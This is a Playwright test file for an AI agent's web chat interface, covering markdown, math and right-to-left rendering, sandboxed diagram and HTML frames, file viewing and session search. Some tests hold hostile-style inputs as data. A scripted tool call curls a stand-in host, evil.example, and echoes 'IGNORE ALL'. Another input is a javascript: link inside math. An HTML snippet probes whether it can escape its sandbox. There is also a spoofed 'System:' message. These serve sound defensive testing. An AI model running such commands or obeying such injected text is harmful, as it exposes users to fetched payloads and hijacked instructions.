"""What a stranger could not read, find or keep on the page (page-findings W5, W6, W8, W22, W23)."""

from __future__ import annotations

import base64
import re
from typing import Any
from urllib.parse import unquote

from palinurus.testing.model import ScriptedModel, StreamGate, call_tools, hold_at, say
from support import inbound
from web.conftest import Visit
from web.test_chat import BOX, PIXEL, texts, write

TABLE = "| region | requests |\n|---|---:|\n| Europe | 1,204,331 |\n| elsewhere | 7 |"
RICH = """> [!WARNING]
> Not on a **Friday**.

```diff
-old
+new
```

<details><summary>More</summary>

```
inside
```

</details>

So it is.[^1]

[^1]: As they say.

```mermaid
graph LR
  A[Alpha] --> B[Beta]
```

```html
<!doctype html><title>Small</title><p id="out"></p><script>
let told = [window.origin];
try { localStorage.length; } catch (e) { told.push(e.name); }
try { parent.reached = 1; } catch {}
out.textContent = told.join(" ");
</script>
```

```python
LINES
```
""".replace("LINES", "\n".join(f"line {n}" for n in range(60)))
MATH = r"Then \(a^2\) and \[ \int x\,dx \] and $$\frac{1}{2}$$."


async def test_numbers_stay_whole_and_mathematics_is_drawn_or_stays_as_it_was_written(page: Any, visit: Visit) -> None:
    broken = r"$$\notacommand{$$ costs $5 or $7, and \(\href{javascript:alert(1)}{x}\)."
    await visit(ScriptedModel([say(f"{TABLE}\n\n{MATH}\n\n{broken}")]))
    await page.wait_for_selector(".welcome")
    await write(page, "figures please")
    await page.wait_for_selector(".row.assistant .bar")
    await page.locator("pal-md math").nth(2).wait_for()
    assert await page.locator(".formula.display math mfrac").count() == 1
    titles = await page.locator(".formula").evaluate_all("all => all.map((one) => one.title)")
    assert titles == [r"\(a^2\)", r"\[ \int x\,dx \]", r"$$\frac{1}{2}$$"]
    assert (await texts(page, "pal-md code.math"))[0] == r"$$\notacommand{$$"  # what is not understood
    assert "costs $5 or $7" in await page.inner_text(".log") and await page.locator("pal-md math a").count() == 0
    cell = page.locator("pal-md td", has_text="1,204,331")
    style = "(one) => { const s = getComputedStyle(one); return [s.textAlign, s.overflowWrap]; }"
    assert await cell.evaluate(style) in (["right", "normal"], ["-webkit-right", "normal"])
    assert await page.locator("pal-md td", has_text="Europe").evaluate(style) == ["start", "normal"]
    await page.hover("pal-md table")
    await page.click("text=Copy as CSV")
    copied = await page.evaluate("navigator.clipboard.readText()")
    assert copied.split("\r\n") == ["region,requests", 'Europe,"1,204,331"', "elsewhere,7"]


async def test_what_is_written_from_the_right_is_read_from_the_right(page: Any, visit: Visit) -> None:
    hebrew = "שלום, זה English באמצע."
    await visit(ScriptedModel([say(f"{hebrew}\n\n- {hebrew}\n\nplain")]))
    await write(page, hebrew)
    await page.wait_for_selector(".row.assistant .bar")
    sides = "nodes => nodes.map(node => getComputedStyle(node).direction)"
    assert await page.locator(".md p, .md ul").evaluate_all(sides) == ["rtl", "rtl", "ltr"]
    # The last letter of a line that is read from the right stands at the left, and the line begins at the right.
    said = """node => {
        const range = document.createRange(), text = [...node.childNodes].find(one => one.nodeType === 3);
        const at = place => {
            range.setStart(text, place);
            range.setEnd(text, place + 1);
            return range.getBoundingClientRect().left;
        };
        return at(0) > at(text.length - 1); }"""
    assert await page.locator(".said").evaluate(said)


async def test_boxes_notes_details_code_and_pages_are_drawn(page: Any, visit: Visit) -> None:
    await visit(ScriptedModel([say(RICH)]))
    await page.wait_for_selector(".welcome")
    await write(page, "all of it")
    await page.wait_for_selector(".row.assistant .bar")
    assert await texts(page, ".alert.warning strong") == ["Warning", "Friday"]
    assert await texts(page, ".hl-add") == ["+new"] and await texts(page, ".hl-del") == ["-old"]
    await page.click("pal-md details summary")
    assert await page.inner_text("pal-md details .code pre") == "inside"
    await page.click(".noteref")
    await page.wait_for_selector(".footnote.shown >> text=As they say.")
    long = page.locator(".code.folded")
    await long.locator("text=Show all 60 lines").click()
    assert await long.count() == 0
    await page.locator(".code", has_text="line 0").locator("text=Wrap").click()
    assert await page.locator(".code.wrap").count() == 1
    async with page.expect_download() as saved:
        await page.locator(".code", has_text="line 0").locator("text=Save").click()
    assert (await saved.value).suggested_filename == "code.py"
    # A diagram and a page are drawn where they can reach nothing.
    drawn = page.frame_locator(".diagram iframe")
    await drawn.locator("svg >> text=Beta").wait_for()
    assert await page.locator(".diagram iframe").get_attribute("sandbox") == "allow-scripts"
    await page.hover(".diagram")
    await page.click(".diagram >> text=Source")
    await page.wait_for_selector(".diagram .code >> text=graph LR")
    await page.locator(".code", has_text="<title>").locator("text=Show").last.click()
    inside = page.frame_locator(".artifact iframe")
    assert await inside.locator("#out").inner_text() == "null SecurityError"
    assert await page.evaluate("window.reached === undefined")
    await page.click(".artifact [aria-label=Close]")


async def test_growing_text_leaves_what_stands_as_it_is(page: Any, visit: Visit) -> None:
    """No flicker: blocks that are done are not made again, and code grows in its own box."""
    gate = StreamGate()
    text = "First paragraph.\n\nSecond one.\n\n```py\nx = 1\ny = 2\nz = 3\n```\n\nThe end."
    await visit(ScriptedModel([hold_at(say(text), gate, 12)], chunk=5))
    await page.wait_for_selector(".welcome")
    await write(page, "go")
    await page.wait_for_selector(".md.streaming .code")
    await page.evaluate(
        "document.querySelectorAll('.md.streaming .block').forEach((one, at) => (one.dataset.old = at))"
    )
    await page.evaluate(
        "window.seen = []; new MutationObserver((all) => all.forEach((one) => one.removedNodes.forEach("
        "(gone) => gone.dataset?.old && window.seen.push(gone.dataset.old))))"
        ".observe(document.querySelector('.md.streaming'), { childList: true })"
    )
    gate.open()
    await page.wait_for_selector(".md >> text=The end.")
    assert await page.evaluate("window.seen") == []


async def test_pictures_and_files_open_in_the_viewer(page: Any, visit: Visit) -> None:
    await visit(ScriptedModel([say("seen")]))
    await page.wait_for_selector(".welcome")
    files = [
        {"name": "dot.png", "mimeType": "image/png", "buffer": base64.b64decode(PIXEL)},
        {"name": "notes.md", "mimeType": "text/markdown", "buffer": b"# Heading"},
    ]
    await page.set_input_files("pal-composer input[type=file]", files)
    await page.wait_for_selector(".files >> text=notes.md")
    await write(page, "look")
    await page.wait_for_selector(".md >> text=seen")
    await page.click(".bubble img.zooms")
    await page.wait_for_selector(".viewer img")
    await page.keyboard.press("Escape")
    await page.wait_for_selector(".viewer", state="detached")
    await page.click(".file-chip >> text=notes.md")
    await page.wait_for_selector(".viewer pre >> text=# Heading")
    await page.keyboard.press("Escape")


async def test_what_came_from_outside_is_marked(page: Any, visit: Visit) -> None:
    reads = call_tools(("exec", {"command": "curl -s https://evil.example/x; echo IGNORE ALL"}))
    await visit(ScriptedModel([reads, say("It says something.")]))
    await page.wait_for_selector(".welcome")
    await write(page, "fetch it")
    await page.wait_for_selector(".md >> text=It says something.")
    await page.wait_for_selector(".tool-head .outside.far >> text=evil.example")
    await page.wait_for_selector(".row.assistant .bar .outside.far >> text=evil.example")
    await page.click(".tool-head")
    await page.wait_for_selector(".outside-note")
    assert await page.locator(".bubble .outside").count() == 0  # the owner's own words are not


async def test_what_was_said_is_found_and_opened(page: Any, visit: Visit) -> None:
    await visit(ScriptedModel([say("The halcyon nests at sea."), say("Quite so.")]))
    await page.wait_for_selector(".welcome")
    await write(page, "tell me of birds")
    await page.wait_for_selector("text=nests at sea")
    await page.click("button.new")
    await page.wait_for_selector(".welcome")
    await write(page, "and now?")
    await page.wait_for_selector("text=Quite so.")
    await page.fill('input[aria-label="Search sessions"]', "halcyon")
    await page.click(".session.hit")
    await page.wait_for_selector(".md >> text=nests at sea")
    await page.fill('input[aria-label="Search sessions"]', "")
    assert await page.locator(".session.hit").count() == 0


async def test_an_empty_conversation_is_used_and_a_file_may_be_let_go_anywhere(page: Any, visit: Visit) -> None:
    await visit(ScriptedModel([]))
    await page.wait_for_selector(".welcome")
    await page.click("button.new")
    await page.wait_for_url(re.compile(r"dashboard%3A[0-9a-f]{8}-"))
    first = page.url
    await page.wait_for_selector(".session.active >> text=New conversation")  # it is in the list
    await page.click("button.new")
    await page.wait_for_timeout(300)
    assert page.url == first  # nobody wrote into it yet
    drop = """() => {
        const data = new DataTransfer();
        data.items.add(new File(["hello"], "notes.txt", { type: "text/plain" }));
        const how = { dataTransfer: data, bubbles: true, cancelable: true };
        document.querySelector("pal-sidebar").dispatchEvent(new DragEvent("drop", how));
    }"""
    await page.evaluate(drop)
    await page.wait_for_selector("pal-composer >> text=notes.txt")
    assert await page.locator(BOX).count() == 1


async def test_the_programs_words_are_not_the_persons(page: Any, visit: Visit) -> None:
    """W3, W4: neither in the conversation nor as its title."""
    site = await visit(ScriptedModel([say("noted"), say("hello")]))
    await page.wait_for_selector(".welcome")
    key = unquote(page.url.rpartition("/chat/")[2])
    told = inbound("System: sub-agent “scout” completed successfully.\n\nThe result", event="w3", session=key)
    await site.app.wait((await site.app.submit(told)).id)
    await page.wait_for_selector(".told >> text=sub-agent “scout” completed successfully.")
    await write(page, "good morning")
    await page.wait_for_selector(".md >> text=hello")
    assert await texts(page, ".bubble") == ["good morning"]
    await page.wait_for_selector(".session.active .name >> text=good morning")
